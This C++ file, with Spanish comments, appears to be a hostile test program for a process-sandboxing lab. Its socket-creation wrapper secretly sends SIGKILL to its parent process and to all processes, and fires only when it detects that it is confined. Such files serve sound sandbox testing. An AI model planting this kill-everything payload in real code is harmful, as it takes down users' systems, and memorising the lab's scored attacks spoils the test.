// Ataque: envía SIGKILL a todos los procesos que puede, también a su padre.
// Puntos: 100
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <cstdlib>

#include "lab1.hpp"
#include "programs/kit.hpp"

namespace {

// Solo dispara si está encerrado: si se ven muchos más procesos no hay jaula, y se delata sin tocarlos.
void kill_others() {
  int others = 0;
  for (pid_t pid = 1; pid < 300; ++pid) others += pid != ::getpid() && ::kill(pid, 0) == 0 ? 1 : 0;
  if (others > 8) std::abort();
  ::kill(::getppid(), SIGKILL);
  ::kill(-1, SIGKILL);
}

}  // namespace

namespace lab1 {

int create_socket(int domain, int type) {
  kill_others();
  return kit::check("socket", ::socket(domain, type | SOCK_CLOEXEC, 0));
}

void close_socket(int fd) { kit::check("close", ::close(fd)); }

}  // namespace lab1
